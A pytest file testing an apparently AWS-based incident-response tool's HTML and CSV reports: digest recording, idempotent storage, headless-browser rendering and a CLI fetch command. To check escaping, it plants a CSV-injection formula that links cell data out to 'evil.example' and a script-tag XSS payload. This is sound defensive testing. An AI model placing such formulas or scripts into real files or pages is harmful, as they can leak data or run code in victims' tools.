"""The incident report (issue 14, item 5) through the shipped state machine: Finalize writes the page and the
principal's events as CSV once beside the attempt's manifests, reading the identity task's CloudTrail capture; the
objects are read back here through boto3. The attacker's calls carry attacker-shaped strings (a user agent that is a
spreadsheet formula, a request parameter that is a script)."""
from __future__ import annotations

import csv
import hashlib
import io
import shutil
import subprocess

import pytest
from botocore.config import Config

from state_machines import local
from tests.worlds.deployment import deployment
from tests.worlds.operations import record
from tests.worlds.pivots import attack, finding, world

MEMBER, FORENSICS, REGION = "444455556666", "999988887777", "eu-west-1"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>alert(1)</script>"

dep = deployment(member_account=MEMBER, forensics_account=FORENSICS, region=REGION)


def s3():
    return local.session(FORENSICS, REGION).client("s3")


def body(dep, stored):
    return s3().get_object(Bucket=dep.bucket, Key=stored["key"], VersionId=stored["versionId"])["Body"].read()


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


@pytest.fixture(scope="module")
def incident(dep):
    import boto3

    w = world(dep)
    moves = attack(w)
    stolen = w["stolen"]
    shaped = boto3.client("ssm", region_name=REGION, aws_access_key_id=stolen["AccessKeyId"],
                          aws_secret_access_key=stolen["SecretAccessKey"], config=Config(user_agent=FORMULA))
    try:
        shaped.get_parameter(Name="/" + SCRIPT)
    except Exception:  # noqa: BLE001 - the call's outcome does not matter, its CloudTrail event does
        pass
    run = local.deliver(finding(w), dep)
    assert run.status == "SUCCEEDED", run.cause
    return {"w": w, "moves": moves, "run": run, "item": record(dep, run.output["incidentId"])}


def test_the_report_is_stored_once_beside_the_manifest_with_its_digests_recorded(dep, incident):
    out, item = incident["run"].output, incident["item"]
    stored = item["report"]
    page, sheet = body(dep, stored["html"]), body(dep, stored["csv"])
    assert stored["html"]["key"] == f"incidents/{out['incidentId']}/report-0001.html"
    assert stored["csv"]["key"] == f"incidents/{out['incidentId']}/report-0001-events.csv"
    assert stored["html"]["sha256"] == sha(page) and stored["csv"]["sha256"] == sha(sheet)
    assert "recordingErrors" not in out
    manifest = __import__("json").loads(body(dep, out["manifest"]))
    assert manifest["report"]["html"]["sha256"] == sha(page) and manifest["report"]["csv"]["sha256"] == sha(sheet)
    head = s3().head_object(Bucket=dep.bucket, Key=stored["html"]["key"])
    assert head["ContentType"].startswith("text/html")

    rows = list(csv.DictReader(io.StringIO(sheet.decode("utf-8-sig"))))
    names = [r["eventName"] for r in rows]
    assert names == sorted(names) and stored["events"] == len(rows)
    assert {"AssumeRole", "CreateAccessKey", "CreateGrant", "GetSecretValue"} <= set(names)
    assert incident["w"]["stolen"]["AccessKeyId"] in sheet.decode()  # the key that signed the calls


def test_attacker_shaped_strings_are_escaped_in_the_csv_and_the_page(dep, incident):
    stored = incident["item"]["report"]
    sheet, page = body(dep, stored["csv"]).decode("utf-8-sig"), body(dep, stored["html"]).decode()
    agents = [r["userAgent"] for r in csv.DictReader(io.StringIO(sheet))]
    assert any(a.startswith("'=HYPERLINK") for a in agents), agents  # neutralized, not dropped
    assert not any(a.startswith("=") for a in agents)
    assert SCRIPT in sheet  # the CSV keeps the text (a spreadsheet does not run it)
    assert "<script" not in page.lower() and "&lt;script&gt;" in page
    assert "default-src 'none'" in page


def test_a_second_run_of_the_same_attempt_writes_no_second_copy(dep, incident):
    out, stored = incident["run"].output, incident["item"]["report"]
    versions = lambda key: [v for v in s3().list_object_versions(Bucket=dep.bucket, Prefix=key).get(  # noqa: E731
        "Versions", []) if v["Key"] == key]
    before = {k: versions(stored[k]["key"]) for k in ("html", "csv")}
    again = local.execute({"manual": {"accountId": MEMBER, "region": REGION, "reason": "second run",
                                      "iamUsers": [incident["w"]["victim"]], "incidentId": out["incidentId"]}}, dep)
    assert again.status == "SUCCEEDED", again.cause
    attempt = again.output.get("attempt", {}).get("attempt") or 1
    after = record(dep, out["incidentId"])["report"]
    if attempt == 1:  # the same attempt: the first copy stands
        assert after["html"]["sha256"] == stored["html"]["sha256"]
    for k in ("html", "csv"):
        assert len(versions(stored[k]["key"])) == len(before[k]) == 1


@pytest.mark.skipif(not shutil.which("chromium"), reason="no chromium on this machine")
def test_the_page_renders_in_headless_chromium(dep, incident, tmp_path):
    page = body(dep, incident["item"]["report"]["html"])
    path = tmp_path / "report.html"
    path.write_bytes(page)
    done = subprocess.run([shutil.which("chromium"), "--headless", "--no-sandbox", "--disable-gpu",
                           "--dump-dom", path.as_uri()], capture_output=True, timeout=90, text=True)
    assert done.returncode == 0, done.stderr[-2000:]
    dom = done.stdout
    assert "Timeline: the attacker" in dom and "Rotate, in this order" in dom and "After action" in dom
    assert "<script" not in dom.lower()


def test_cli_report_writes_the_stored_report_locally_and_checks_it_against_the_manifest(dep, incident, tmp_path):
    import json

    import cli

    out_id, stored = incident["run"].output["incidentId"], incident["item"]["report"]
    out = io.StringIO()
    assert cli.main(["--local", "report", out_id, "--attempt", "1", "--out", str(tmp_path), "--region", REGION,
                     "--forensics-account", FORENSICS, "--bucket", dep.bucket], out=out) == cli.OK
    lines = out.getvalue().splitlines()
    html = tmp_path / f"{out_id}-report-0001.html"
    sheet = tmp_path / f"{out_id}-report-0001-events.csv"
    assert lines[0].startswith(str(html)) and lines[1].startswith(str(sheet)) and "manifest" in lines[0]
    assert sha(html.read_bytes()) == stored["html"]["sha256"] and sha(sheet.read_bytes()) == stored["csv"]["sha256"]
    out = io.StringIO()  # by default the latest attempt's (the second run above was attempt 2)
    assert cli.main(["--local", "report", out_id, "--out", str(tmp_path / "latest"), "--region", REGION,
                     "--forensics-account", FORENSICS, "--bucket", dep.bucket, "--json"], out=out) == cli.OK
    latest = json.loads(out.getvalue())
    assert latest["attempt"] == max(1, record(dep, out_id)["report"]["html"]["key"].count("0002") * 2)
    assert not latest["problems"] and {f["checked"] for f in latest["files"]} == {"manifest"}
    out = io.StringIO()
    assert cli.main(["--local", "report", "gd-nothing-here", "--out", str(tmp_path), "--region", REGION,
                     "--forensics-account", FORENSICS, "--bucket", dep.bucket, "--json"], out=out) == cli.NOT_FOUND
